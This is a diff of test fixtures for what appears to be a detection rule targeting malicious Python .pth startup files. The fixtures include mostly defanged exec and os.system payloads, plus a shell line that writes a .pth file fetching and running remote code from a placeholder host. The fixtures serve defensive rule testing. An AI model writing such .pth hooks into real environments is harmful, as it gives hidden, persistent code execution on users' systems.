@@ -23,7 +23,7 @@ export default defineRule({
     { "x.pth": "import base64; exec(base64.b64decode(b'cGFzcw=='))\n" },
     { "x.pth": "import os; os.system('true')\n" },
     `import os, site
-open(os.path.join(site.getsitepackages()[0], "fix.pth"), "w").write("import os; os.system('true')\\n")`,
+open(os.path.join(site.getsitepackages()[0], "fix.pth"), "w").write("import base64; exec(base64.b64decode(b'cGFzcw=='))\\n")`,
     {
       "run.sh": `echo "import urllib.request; exec(urllib.request.urlopen('https://u.example').read())" > "$SP/zz.pth"`,
     },
